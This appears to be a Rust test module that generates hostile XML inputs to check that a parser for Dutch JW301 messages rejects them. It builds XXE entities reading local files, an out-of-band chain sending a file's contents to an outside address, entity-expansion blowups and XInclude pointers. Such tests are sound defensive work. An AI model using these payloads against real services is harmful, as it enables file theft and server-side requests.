//! Everything that a document type can hold, and what else points outside the file. A `place` is a file that must not be read,
//! an `address` one where nobody may call.

use super::{full, without_declaration};

/// Files that want something read, called or multiplied, with what each tries.
pub fn files(place: &str, address: &str) -> Vec<(&'static str, Vec<u8>)> {
    let body = without_declaration();
    let named = body.replace(">Individueel<", ">&x;<");
    let quadratic = format!("<!ENTITY x \"{}\">", "geheim".repeat(10_000));
    let many = body.replace(">Individueel<", &format!(">{}<", "&x;".repeat(10_000)));
    let before = |what: &str| format!("{what}{body}").into_bytes();
    vec![
        (
            "a file as an entity",
            format!("<!DOCTYPE a [<!ENTITY x SYSTEM \"file://{place}\">]>{named}").into_bytes(),
        ),
        (
            "a file by its bare path",
            format!("<!DOCTYPE a [<!ENTITY x SYSTEM \"{place}\">]>{named}").into_bytes(),
        ),
        (
            "an address as an entity",
            format!("<!DOCTYPE a [<!ENTITY x SYSTEM \"http://{address}/x\">]>{named}").into_bytes(),
        ),
        (
            "a filter as an entity",
            format!("<!DOCTYPE a [<!ENTITY x SYSTEM \"php://filter/{place}\">]>{named}").into_bytes(),
        ),
        (
            "a public identifier",
            before(&format!("<!DOCTYPE a PUBLIC \"-//W3C//DTD\" \"http://{address}/a.dtd\">")),
        ),
        ("a document type elsewhere", before(&format!("<!DOCTYPE a SYSTEM \"http://{address}/a.dtd\">"))),
        ("a document type in a file", before(&format!("<!DOCTYPE a SYSTEM \"file://{place}\">"))),
        ("a parameter entity", before("<!DOCTYPE a [<!ENTITY % x \"<!ENTITY y 'geheim'>\"> %x;]>")),
        (
            "a parameter entity in a file",
            before(&format!("<!DOCTYPE a [<!ENTITY % x SYSTEM \"file://{place}\"> %x;]>")),
        ),
        (
            "a parameter entity elsewhere",
            before(&format!("<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://{address}/x\"> %x;]>")),
        ),
        (
            "a file sent elsewhere by parameter entities",
            before(&format!(
                "<!DOCTYPE a [<!ENTITY % f SYSTEM \"file://{place}\"><!ENTITY % e \
                 \"<!ENTITY s SYSTEM 'http://{address}/?%f;'>\"> %e;]>"
            )),
        ),
        (
            "entities in a circle",
            format!("<!DOCTYPE a [<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">]>{named}").into_bytes(),
        ),
        ("one long entity many times", format!("<!DOCTYPE a [{quadratic}]>{many}").into_bytes()),
        (
            "a notation",
            before(&format!(
                "<!DOCTYPE a [<!NOTATION n SYSTEM \"http://{address}/n\"><!ENTITY x SYSTEM \"x.gif\" NDATA n>]>"
            )),
        ),
        ("attributes by default", before("<!DOCTYPE a [<!ATTLIST Client geheim CDATA \"geheim\">]>")),
        ("a declared element", before("<!DOCTYPE a [<!ELEMENT Client ANY>]>")),
        ("a conditional section", before("<!DOCTYPE a [<![INCLUDE[<!ENTITY x \"geheim\">]]>]>")),
        ("a document type after a comment", before("<!-- geheim --><!DOCTYPE a>")),
        ("a document type in small letters", before("<!doctype a>")),
        ("a document type inside", full().replace("<t:Client>", "<!DOCTYPE a><t:Client>").into_bytes()),
        ("a document type that does not end", before("<!DOCTYPE a [<!ENTITY x \"")),
        ("an entity in an attribute", full().replace("<t:Client>", "<t:Client a=\"&x;\">").into_bytes()),
        ("an entity without end", full().replace(">Individueel<", ">&amp<").into_bytes()),
        ("an entity of HTML", full().replace(">Individueel<", ">&euml;<").into_bytes()),
        ("a style elsewhere", before(&format!("<?xml-stylesheet href=\"http://{address}/x.xsl\"?>"))),
    ]
}

/// Files that are whole, but point outside: they are judged by what they say, and nothing is fetched for them.
pub fn pointers(place: &str, address: &str) -> Vec<(&'static str, Vec<u8>)> {
    let include = |target: &str| {
        format!("<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"{target}\" parse=\"text\"/>")
    };
    let included = |target: &str| {
        full()
            .replace("<t:Commentaar>Individueel<", &format!("{}<t:Commentaar>Individueel<", include(target)))
    };
    let broken = full().replace("<t:Geslacht>2</t:Geslacht>", "");
    vec![
        ("a file to include", included(&format!("file://{place}")).into_bytes()),
        ("an address to include", included(&format!("http://{address}/x")).into_bytes()),
        (
            "a schema elsewhere",
            broken.replace(" JW301.xsd\"", &format!(" http://{address}/JW301.xsd\"")).into_bytes(),
        ),
        (
            "a base elsewhere",
            full().replace("<t:Client>", &format!("<t:Client xml:base=\"http://{address}/\">")).into_bytes(),
        ),
    ]
}
